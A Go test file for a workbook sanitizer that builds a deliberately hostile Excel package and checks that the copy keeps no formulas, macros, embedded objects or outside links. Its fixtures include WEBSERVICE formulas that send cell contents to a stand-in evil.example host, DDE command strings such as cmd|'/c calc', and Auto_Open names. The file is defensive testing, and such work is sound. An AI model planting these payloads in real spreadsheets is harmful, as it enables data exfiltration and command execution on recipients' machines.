package inert

import (
	"archive/zip"
	"bytes"
	"encoding/xml"
	"errors"
	"io"
	"os"
	"path"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/bulkonboard/bulkonboard/pipeline/report/booktest"
)

// everything is a workbook with whatever a sender can put into one that acts by
// itself or leads elsewhere; evil.example is in all of it.
func everything() map[string]string {
	rels := func(list ...string) string {
		return `<Relationships xmlns="` + packageRels + `">` + strings.Join(list, "") + `</Relationships>`
	}
	rel := func(id, kind, to string) string {
		mode := ""
		if strings.Contains(to, "evil.example") {
			mode = ` TargetMode="External"`
		}
		return `<Relationship Id="` + id + `" Type="` + relSpace + "/" + kind + `" Target="` + to + `"` + mode + `/>`
	}
	const book, space = `<workbook xmlns="` + mainSpace + `" xmlns:r="` + relSpace + `">`, `xmlns:r="` + relSpace + `"`
	evil := `<x xmlns="urn:evil.example"/>`
	parts := map[string]string{
		"[Content_Types].xml": `<Types xmlns="` + packageTypes + `"/>`,
		"_rels/.rels": rels(rel("a", "officeDocument", "xl/workbook.xml"), rel("b", "ui/extensibility", "customUI/customUI.xml"), rel("c", "custom-properties", "docProps/custom.xml"),
			rel("d", "metadata/thumbnail", "https://evil.example/thumb.png"), rel("e", "webextensiontaskpanes", "xl/webextensions/taskpanes.xml")),
		"customUI/customUI.xml": `<customUI onLoad="evil.example"/>`, "docProps/custom.xml": evil, "xl/webextensions/taskpanes.xml": evil,
		"xl/workbook.xml": book + `<fileSharing userName="evil.example"/><workbookPr codeName="evil.example" date1904="1"/><functionGroups><functionGroup name="evil.example"/></functionGroups>` +
			`<bookViews><workbookView activeTab="2"/></bookViews>` +
			`<sheets><sheet name="Macro" sheetId="9" r:id="m"/><sheet name="List" sheetId="1" r:id="s1"/><sheet name="Choices" sheetId="2" state="veryHidden" r:id="s2"/><sheet name="Chart" sheetId="3" r:id="ch"/></sheets>` +
			`<externalReferences><externalReference r:id="x"/></externalReferences>` +
			`<definedNames><definedName name="_xlnm.Auto_Open" hidden="1">Macro!$A$1</definedName><definedName name="Auto_Open">List!$A$1</definedName>` +
			`<definedName name="Fetch">WEBSERVICE("https://evil.example/"&amp;List!$A$1)</definedName><definedName name="Dde">evil.example|cmd!A1</definedName>` +
			`<definedName name="Other">[1]Sheet!$A$1</definedName><definedName name="Path">'https://evil.example/[b.xlsx]S'!$A$1</definedName><definedName name="Run" function="1" vbProcedure="1">List!$A$1</definedName>` +
			`<definedName name="Answers">Choices!$A$1:$A$2</definedName><definedName name="_xlnm.Print_Titles" localSheetId="1">List!$1:$1</definedName><definedName name="_xlnm.Print_Area" localSheetId="0">Macro!$A$1</definedName></definedNames>` +
			`<oleSize ref="A1"/><customWorkbookViews><customWorkbookView name="evil.example"/></customWorkbookViews><pivotCaches><pivotCache cacheId="1" r:id="p"/></pivotCaches><webPublishing/>` +
			`<extLst><ext uri="{evil.example}"/></extLst></workbook>`,
		"xl/_rels/workbook.xml.rels": rels(rel("m", "xlMacrosheet", "macrosheets/sheet1.xml"), rel("s1", "worksheet", "worksheets/one.xml"), rel("s2", "worksheet", "/xl/worksheets/two.xml"), rel("ch", "chartsheet", "chartsheets/sheet1.xml"),
			rel("x", "externalLink", "externalLinks/externalLink1.xml"), rel("p", "pivotCacheDefinition", "pivotCache/pivotCacheDefinition1.xml"), rel("c", "connections", "connections.xml"),
			rel("v", "vbaProject", "vbaProject.bin"), rel("t", "theme", "theme/theme1.xml"), rel("st", "styles", "styles.xml"), rel("ss", "sharedStrings", "sharedStrings.xml"),
			rel("cx", "customXml", "../customXml/item1.xml"), rel("md", "sheetMetadata", "metadata.xml"), rel("rd", "rdRichValueWebImage", "richData/rdRichValueWebImage.xml"), rel("new", "notInventedYet", "future.xml"), rel("far", "styles", "https://evil.example/styles.xml")),
		"xl/theme/theme1.xml": `<a:theme xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="` + relSpace + `"><a:themeElements><a:clrScheme name="evil.example"><a:accent1><a:srgbClr val="123ABC"/></a:accent1><a:hlink><a:srgbClr val="evil.example"/></a:hlink></a:clrScheme>` +
			`<a:fontScheme name="x"><a:minorFont><a:latin typeface="Georgia"/></a:minorFont></a:fontScheme><a:fmtScheme><a:bgFillStyleLst><a:blipFill><a:blip r:link="rId1"/></a:blipFill></a:bgFillStyleLst></a:fmtScheme></a:themeElements></a:theme>`,
		"xl/theme/_rels/theme1.xml.rels": rels(rel("rId1", "image", "https://evil.example/x.png")),
		"xl/styles.xml":                  `<styleSheet xmlns="` + mainSpace + `"><fonts count="9"><font><sz val="11"/><name val="Georgia"/></font></fonts><fills><fill><patternFill patternType="none"/></fill></fills><borders><border/></borders><cellXfs><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellXfs><extLst><ext uri="evil.example"/></extLst></styleSheet>`,
		"xl/sharedStrings.xml":           `<sst xmlns="` + mainSpace + `"><si><t>email</t></si><si><r><rPr><b/></rPr><t xml:space="preserve"> rich </t></r></si></sst>`,
		"xl/worksheets/one.xml": `<worksheet xmlns="` + mainSpace + `" ` + space + ` xmlns:mc="` + compatSpace + `"><sheetPr codeName="evil.example" published="1"><tabColor rgb="FF00FF00"/></sheetPr><sheetData>` +
			`<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s" vm="1" cm="1"><v>1</v></c></row>` +
			`<row r="2"><c r="A2" t="str"><f>WEBSERVICE("https://evil.example/"&amp;C2)</f><v>jane@example.com</v></c><c r="B2"><f>1+1</f><v>2</v></c><c r="C2" t="b"><f t="array" ref="C2">HYPERLINK("https://evil.example")</f><v>1</v></c><c r="D2" t="e" vm="2"><f>_xlfn.IMAGE("https://evil.example/p.png")</f><v>#VALUE!</v></c>` +
			`<c r="E2"><f>RTD("evil.example",,"x")</f></c><c r="F2"><f t="shared" si="0"/><v>7</v></c><c r="G2" t="str"><f>CUBEVALUE("evil.example")</f><v></v></c><c r="H2" t="s"><f>STOCKHISTORY("evil.example")</f><v/></c><c r="I2" t="inlineStr"><f>evil.example|cmd!A1</f><is><t>in line</t><x>evil.example</x></is></c><c r="J2"><f t="dataTable" r1="evil.example"/><v>3</v></c><c r="K2"><v>4</v><extLst><ext uri="evil.example"/></extLst></c></row>` +
			`</sheetData><sheetCalcPr fullCalcOnLoad="1"/><scenarios><scenario name="evil.example"/></scenarios>` +
			`<conditionalFormatting sqref="A1"><cfRule type="expression" dxfId="0" priority="1"><formula>WEBSERVICE("https://evil.example/"&amp;A1)=1</formula></cfRule><cfRule type="expression" dxfId="0" priority="2"><formula>LEN($A1)&gt;3</formula></cfRule></conditionalFormatting>` +
			`<conditionalFormatting sqref="B1"><cfRule type="colorScale" priority="3"><colorScale><cfvo type="formula" val="[1]evil.example!A1"/><cfvo type="max"/><color rgb="FF000000"/><color rgb="FFFFFFFF"/></colorScale></cfRule></conditionalFormatting>` +
			`<dataValidations count="9"><dataValidation type="list" sqref="A2"><formula1>Answers</formula1></dataValidation><dataValidation type="list" sqref="B2"><formula1>"yes,no"</formula1></dataValidation><dataValidation type="custom" sqref="C2"><formula1>INDIRECT("'https://evil.example/[x]y'!A1")</formula1></dataValidation><dataValidation type="list" sqref="D2"><formula1>[1]evil.example!$A$1</formula1></dataValidation><dataValidation type="list" sqref="E2"><formula1>Fetch</formula1></dataValidation></dataValidations>` +
			`<hyperlinks><hyperlink ref="A2" r:id="h"/><hyperlink ref="B2" location="Choices!A1" display="there"/><hyperlink ref="C2" location="https://evil.example"/></hyperlinks>` +
			`<pageSetup orientation="landscape" r:id="ps"/><headerFooter><oddHeader>&amp;A</oddHeader></headerFooter><customProperties><customPr name="evil.example" r:id="cp"/></customProperties><cellWatches><cellWatch r="A1"/></cellWatches><smartTags/>` +
			`<drawing r:id="d"/><legacyDrawing r:id="vml"/><legacyDrawingHF r:id="vml2"/><picture r:id="pic"/><oleObjects><mc:AlternateContent><mc:Choice Requires="x14"><oleObject progId="evil.example" r:id="o"/></mc:Choice><mc:Fallback><oleObject progId="evil.example" dvAspect="DVASPECT_ICON" link="[1]!x" oleUpdate="OLEUPDATE_ALWAYS" r:id="o"/></mc:Fallback></mc:AlternateContent></oleObjects><controls><control r:id="ax" name="evil.example"/></controls><webPublishItems><webPublishItem destinationFile="https://evil.example"/></webPublishItems><tableParts count="1"><tablePart r:id="t"/></tableParts><extLst><ext uri="{evil.example}"><x/></ext></extLst><notInventedYet href="https://evil.example"/></worksheet>`,
		"xl/worksheets/_rels/one.xml.rels": rels(rel("h", "hyperlink", "https://evil.example/"), rel("d", "drawing", "../drawings/drawing1.xml"), rel("vml", "vmlDrawing", "../drawings/vmlDrawing1.vml"), rel("c", "comments", "../comments1.xml"), rel("t", "table", "../tables/table1.xml"),
			rel("ps", "printerSettings", "../printerSettings/p.bin"), rel("o", "oleObject", "https://evil.example/o.docx"), rel("ax", "control", "../activeX/activeX1.xml"), rel("pic", "image", "https://evil.example/bg.png"), rel("q", "queryTable", "../queryTables/queryTable1.xml"), rel("pt", "pivotTable", "../pivotTables/pivotTable1.xml"), rel("cp", "customProperty", "../customProperty1.bin")),
		"xl/worksheets/two.xml":           `<worksheet xmlns="` + mainSpace + `"><sheetData><row><c t="inlineStr"><is><t>yes</t></is></c></row></sheetData></worksheet>`,
		"xl/comments1.xml":                `<comments xmlns="` + mainSpace + `"><authors><author>Zoë</author></authors><commentList><comment ref="A2" authorId="0"><text><r><rPr><sz val="9"/></rPr><t>call her</t></r><script>evil.example</script></text><commentPr altText="evil.example"/></comment></commentList></comments>`,
		"xl/drawings/vmlDrawing1.vml":     `<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:x="urn:schemas-microsoft-com:office:excel" xmlns:o="urn:schemas-microsoft-com:office:office"><v:shape href="https://evil.example" onclick="x"><v:imagedata src="https://evil.example/x.png"/><v:fill o:href="https://evil.example"/><br><x:ClientData ObjectType="Note"><x:FmlaMacro>[0]!evil.example</x:FmlaMacro><x:Anchor>1, 2, 3, 4, 5, 6, 7, 8</x:Anchor><x:Visible/><x:Row>1</x:Row><x:Column>0</x:Column></x:ClientData></v:shape></xml>`,
		"xl/tables/table1.xml":            `<table xmlns="` + mainSpace + `" id="1" name="T" displayName="T" ref="A1:B2" tableType="queryTable" connectionId="1"><autoFilter ref="A1:B2"/><tableColumns count="2"><tableColumn id="1" name="email" queryTableFieldId="1"><calculatedColumnFormula>WEBSERVICE("https://evil.example")</calculatedColumnFormula></tableColumn><tableColumn id="2" name="rich" totalsRowFunction="custom"><totalsRowFormula>evil.example</totalsRowFormula><xmlColumnPr mapId="1" xpath="evil.example"/></tableColumn></tableColumns></table>`,
		"xl/tables/_rels/table1.xml.rels": rels(rel("q", "queryTable", "../queryTables/queryTable1.xml")),
	}
	for _, name := range []string{"xl/macrosheets/sheet1.xml", "xl/chartsheets/sheet1.xml", "xl/externalLinks/externalLink1.xml", "xl/pivotCache/pivotCacheDefinition1.xml", "xl/connections.xml", "xl/vbaProject.bin", "customXml/item1.xml", "xl/metadata.xml",
		"xl/richData/rdRichValueWebImage.xml", "xl/future.xml", "xl/drawings/drawing1.xml", "xl/activeX/activeX1.xml", "xl/queryTables/queryTable1.xml", "xl/pivotTables/pivotTable1.xml", "xl/printerSettings/p.bin", "xl/customProperty1.bin"} {
		parts[name] = evil
	}
	return parts
}

func pack(t testing.TB, parts map[string]string) []byte {
	t.Helper()
	var buf bytes.Buffer
	z := zip.NewWriter(&buf)
	for name, text := range parts {
		w, err := z.Create(name)
		if err == nil {
			_, err = io.WriteString(w, text)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// allowed are the parts that a copy may have.
var allowed = regexp.MustCompile(`^(\[Content_Types\]\.xml|_rels/\.rels|docProps/app\.xml|xl/(workbook|styles|sharedStrings)\.xml|xl/_rels/workbook\.xml\.rels|xl/theme/theme1\.xml|xl/persons/person\.xml|` +
	`xl/worksheets/sheet\d+\.xml|xl/worksheets/_rels/sheet\d+\.xml\.rels|xl/comments\d+\.xml|xl/drawings/vmlDrawing\d+\.vml|xl/tables/table\d+\.xml|xl/threadedComments/threadedComment\d+\.xml)$`)

// inspectCopy returns the parts of a copy, and fails if any could act or leads out
// of the package.
func inspectCopy(t testing.TB, data []byte) map[string]string {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	texts := map[string]string{}
	for _, f := range z.File {
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		text, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		if !allowed.MatchString(f.Name) || texts[f.Name] != "" {
			t.Errorf("part %s", f.Name)
		}
		texts[f.Name] = string(text)
	}
	for name, text := range texts {
		err := eachElement([]byte(text), func(_ *xml.Decoder, at xml.StartElement) error {
			switch at.Name.Local {
			case "f", "oleObject", "control", "drawing", "externalReference", "script", "imagedata", "ext", "picture", "calculatedColumnFormula":
				t.Errorf("%s has an element %s", name, at.Name.Local)
			case "Relationship":
				to := path.Join(path.Dir(path.Dir(name)), attr(at, "Target"))
				if attr(at, "TargetMode") != "" || texts[to] == "" {
					t.Errorf("%s leads to %q (%s)", name, to, attr(at, "TargetMode"))
				}
			}
			return nil
		})
		if err != nil {
			t.Errorf("%s: %v", name, err)
		}
	}
	return texts
}

// TestHostileWorkbook: an annotated workbook goes to whoever corrects it, with
// links of customers in it. Nothing of what the sender put into it may act, or
// call elsewhere, there.
func TestHostileWorkbook(t *testing.T) {
	data := pack(t, everything())
	out, err := copyBytes(data)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(booktest.Dir(t), "copy.xlsx"), out.Data, 0o600); err != nil {
		t.Fatal(err)
	}
	texts := inspectCopy(t, out.Data)
	for name, text := range texts {
		for _, word := range []string{"evil.example", "WEBSERVICE", "INDIRECT", "Auto_Open", "codeName", "vm=", "cm=", "Macro"} {
			if strings.Contains(text, word) && (word != "Macro" || name != "docProps/app.xml") {
				t.Errorf("%s has %s: %s", name, word, text)
			}
		}
	}
	sheet := texts["xl/worksheets/sheet1.xml"]
	for _, want := range []string{`<c r="A2" t="str"><v>jane@example.com</v></c>`, `<c r="B2"><v>2</v></c>`, `<c r="C2" t="b"><v>1</v></c>`, `<c r="D2" t="e"><v>#VALUE!</v></c>`, `<c r="E2" t="e"><v>#N/A</v></c>`, `<c r="F2"><v>7</v></c>`, `<c r="G2" t="str"><v></v></c>`,
		`<c r="H2" t="e"><v>#N/A</v></c>`, `<is><t>in line</t></is>`, `<c r="J2"><v>3</v></c>`, `<c r="K2"><v>4</v></c>`, `<formula>LEN($A1)&gt;3</formula>`, `<dataValidations count="2">`, `<formula1>Answers</formula1>`, `<formula1>&#34;yes,no&#34;</formula1>`,
		`<hyperlinks><hyperlink ref="B2" location="Choices!A1" display="there"></hyperlink></hyperlinks>`, `<tabColor rgb="FF00FF00">`, `orientation="landscape"`} {
		if !strings.Contains(sheet, want) {
			t.Errorf("the sheet lacks %s\n%s", want, sheet)
		}
	}
	if n := strings.Count(sheet, "<cfRule"); n != 1 {
		t.Errorf("%d conditional formats", n)
	}
	book := texts["xl/workbook.xml"]
	for _, want := range []string{`<sheet name="List" sheetId="1" r:id="rId1"/><sheet name="Choices" sheetId="2" state="veryHidden" r:id="rId2"/></sheets>`, `name="Answers"`, `<definedName name="_xlnm.Print_Titles" localSheetId="0">List!$1:$1</definedName>`, `date1904="1"`} {
		if !strings.Contains(book, want) {
			t.Errorf("the list of sheets lacks %s\n%s", want, book)
		}
	}
	if vml := texts["xl/drawings/vmlDrawing1.vml"]; !strings.Contains(vml, "<x:Anchor>1, 2, 3, 4, 5, 6, 7, 8</x:Anchor>") || !strings.Contains(vml, "<x:Visible/>") {
		t.Errorf("the box of the comment is elsewhere: %s", vml)
	}
	if theme := texts["xl/theme/theme1.xml"]; !strings.Contains(theme, "123ABC") || !strings.Contains(theme, "Georgia") {
		t.Errorf("colours and fonts are lost: %s", theme)
	}
	for _, want := range []Count{{"formula", 10}, {"hyperlink", 2}, {"data validation", 3}, {"conditional format", 2}, {"defined name", 7}, {"macro project", 1}, {"macro sheet", 1}, {"chart sheet", 1}, {"link to another workbook", 1}, {"data connection", 1}, {"query table", 2},
		{"pivot table", 1}, {"embedded object", 1}, {"control", 1}, {"picture", 1}, {"picture from the web", 1}, {"drawing", 1}, {"printer setting", 1}, {"custom ribbon", 1}, {"custom XML part", 1}, {"add-in", 1}, {"part of another kind", 1}} {
		if !slices.Contains(out.Dropped, want) {
			t.Errorf("told %v, which lacks %v", out.Dropped, want)
		}
	}
}

// TestHostileFormula: what may stay in a list to choose from, a conditional
// format and a name, and what may not.
func TestHostileFormula(t *testing.T) {
	c := &copier{formulas: newExpressions(), sheets: map[string]bool{"LIST": true, "MY LIST": true, "ZOË": true}, names: map[string]bool{"ANSWERS": true}}
	for formula, want := range map[string]bool{
		`"a,b"`: true, `$A$1:$A$9`: true, `List!$A$1`: true, `'My list'!A1:B2`: true, `Zoë!A1`: true, `answers`: true, `AND(LEN(A1)>3,NOT(ISBLANK($B1)))`: true, `1.5e3`: true, `"a""b"`: true, `A:A`: true, `$1:$3`: true, `-1`: true, `TRUE`: true,
		`IF(A1="x",1,0)`: true, `SEARCH("http://x",A1)`: true, `COUNTIF($A:$A,A1)>1`: true, `TODAY()`: true,
		`WEBSERVICE("x")`: false, `_xlfn.WEBSERVICE("x")`: false, `webservice("x")`: false, `INDIRECT(A1)`: false, `HYPERLINK(A1)`: false, `[1]S!A1`: false, `'[b.xlsx]S'!A1`: false, `'C:\[b]S'!A1`: false, `cmd|'/c calc'!A1`: false, `Elsewhere!A1`: false, `Fetch`: false,
		`LOG10(A1)`: false, `{1,2}`: false, `#REF!`: false, `List!Fetch`: false, `A1!B2`: false, `"open`: false, `CALL("a")`: false, `@A1`: false, `IMAGE("x")`: false, `WEBSERVICE ("x")`: false, `LEN`: false, `'List'!WEBSERVICE("x")`: false, strings.Repeat("1+", 5000): false,
	} {
		if got := c.isHarmless(formula); got != want {
			t.Errorf("%s: harmless %t", formula, got)
		}
	}
	for text, want := range map[string]bool{`List!$A$1`: true, `'My list'!$A$1:$B$2,List!A1`: true, `List!$1:$1`: true, `List!$A:$B`: true, `A1`: true,
		``: false, `Elsewhere!A1`: false, `List!A1+1`: false, `OFFSET(List!A1,1,1)`: false, `[1]List!A1`: false, `List!A1,`: true, `List!Answers`: false, `https://evil.example`: false, `#REF!`: false} {
		if got := c.isPlace(text); got != want {
			t.Errorf("%s: place %t", text, got)
		}
	}
	for name, want := range map[string]bool{"Answers": true, "Länder_2": true, "_xlnm.Print_Area": true, "_xlnm.Auto_Open": false, "auto_close": false, "_xlnm.Sheet_Title": false, "_x": false, "Auto_Open1": false, "": false} {
		if got := newExpressions().isHarmlessName(name); got != want {
			t.Errorf("name %q: %t", name, got)
		}
	}
}

// A formula that no program has calculated is an error in the copy, not its
// stopgap, and not an empty cell.
func TestNeverCalculated(t *testing.T) {
	parts := everything()
	parts["xl/workbook.xml"] = strings.Replace(parts["xl/workbook.xml"], "<oleSize", `<calcPr fullCalcOnLoad="1"/><oleSize`, 1)
	data := pack(t, parts)
	out, err := copyBytes(data)
	if err != nil {
		t.Fatal(err)
	}
	if sheet := inspectCopy(t, out.Data)["xl/worksheets/sheet1.xml"]; strings.Count(sheet, "#N/A") != 10 || !strings.Contains(sheet, `<c r="K2"><v>4</v></c>`) {
		t.Errorf("%d cells without value: %s", strings.Count(sheet, "#N/A"), sheet)
	}
}

// TestHostileShapes: XML that is small packed and costs much to read is refused,
// not read.
func TestHostileShapes(t *testing.T) {
	const one, notes = "xl/worksheets/one.xml", "xl/comments1.xml"
	open := `<worksheet xmlns="` + mainSpace + `" xmlns:mc="` + compatSpace + `">`
	for name, part := range map[string][2]string{
		"alternatives inside alternatives": {one, open + strings.Repeat("<mc:AlternateContent><mc:Fallback>", 50_000) + strings.Repeat("</mc:Fallback></mc:AlternateContent>", 50_000) + "</worksheet>"},
		"a tag of many attributes":         {one, open + "<sheetData" + strings.Repeat(` a=">"`, 400_000) + "/></worksheet>"},
		"a part that never ends":           {one, open + strings.Repeat("<sheetData>"+strings.Repeat(" ", 1<<20)+"</sheetData>", maxUnpacked>>20) + "</worksheet>"},
		"many elements":                    {one, open + strings.Repeat("<sheetData/>", maxElements) + "</worksheet>"},
		"many comments": {notes, `<comments xmlns="` + mainSpace + `"><authors/><commentList>` +
			strings.Repeat(`<comment ref="A1" authorId="0"/>`, maxNotes+1) + "</commentList></comments>"},
	} {
		parts := everything()
		parts[part[0]] = part[1]
		data := pack(t, parts)
		if _, err := copyBytes(data); !errors.Is(err, ErrTooLarge) {
			t.Errorf("%s: %v", name, err)
		}
	}
	parts := everything()
	parts[one] = open + strings.Repeat("<x>", 200_000) + strings.Repeat("</x>", 200_000) + "</worksheet>"
	data := pack(t, parts)
	if out, err := copyBytes(data); err != nil || inspectCopy(t, out.Data) == nil {
		t.Errorf("deep elements of another kind: %v", err)
	}
}

func copyBytes(data []byte) (*Copied, error) {
	archive, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		return nil, err
	}
	return copyArchive(archive)
}

// FuzzCopy: whatever the parts say, the copy has none but allowed parts and
// leads nowhere.
func FuzzCopy(f *testing.F) {
	parts := everything()
	f.Add(parts["xl/worksheets/one.xml"], parts["xl/workbook.xml"])
	f.Add(parts["xl/worksheets/two.xml"], parts["xl/workbook.xml"])
	f.Fuzz(func(t *testing.T, sheet, book string) {
		parts["xl/worksheets/one.xml"], parts["xl/workbook.xml"] = sheet, book
		data := pack(t, parts)
		out, err := copyBytes(data)
		if err == nil {
			inspectCopy(t, out.Data)
		}
	})
}

// A workbook in the strict form, and one whose elements have prefixes, come out
// in the usual one.
func TestOtherForms(t *testing.T) {
	for name, change := range map[string]*strings.Replacer{
		"strict":   strings.NewReplacer(mainSpace, strictSpace, relSpace, strictRels),
		"prefixes": strings.NewReplacer("<worksheet xmlns=", "<x:worksheet xmlns:x=", "</worksheet>", "</x:worksheet>", "<sheetData>", "<x:sheetData>", "</sheetData>", "</x:sheetData>", "<row>", "<x:row>", "</row>", "</x:row>", "<c ", "<x:c ", "</c>", "</x:c>", "<is>", "<x:is>", "</is>", "</x:is>", "<t>", "<x:t>", "</t>", "</x:t>"),
		"capitals": strings.NewReplacer("worksheets/two.xml", "Worksheets/Two.XML"),
	} {
		parts := everything()
		for _, part := range []string{"xl/worksheets/two.xml", "xl/_rels/workbook.xml.rels", "_rels/.rels"} {
			parts[part] = change.Replace(parts[part])
		}
		if name == "strict" {
			for _, part := range []string{"xl/workbook.xml", "xl/worksheets/one.xml", "xl/styles.xml", "xl/sharedStrings.xml", "xl/comments1.xml", "xl/tables/table1.xml", "xl/worksheets/_rels/one.xml.rels"} {
				parts[part] = change.Replace(parts[part])
			}
		}
		data := pack(t, parts)
		out, err := copyBytes(data)
		if err != nil {
			t.Errorf("%s: %v", name, err)
			continue
		}
		if texts := inspectCopy(t, out.Data); !strings.Contains(texts["xl/worksheets/sheet2.xml"], `<sheetData><row><c t="inlineStr"><is><t>yes</t></is></c></row></sheetData>`) || strings.Contains(texts["xl/worksheets/sheet1.xml"], strictSpace) || texts["xl/comments1.xml"] == "" {
			t.Errorf("%s: %s", name, texts["xl/worksheets/sheet2.xml"])
		}
		if got := out.Sheets["Choices"]; got.Cells != 2 || got.Comments != "" {
			t.Errorf("%s: %+v", name, got)
		}
		if got := out.Sheets["List"]; got.Comments != "xl/comments1.xml" || got.Drawing != "xl/drawings/vmlDrawing1.vml" || len(out.Sheets) != 2 {
			t.Errorf("%s: %+v", name, out.Sheets)
		}
	}
}
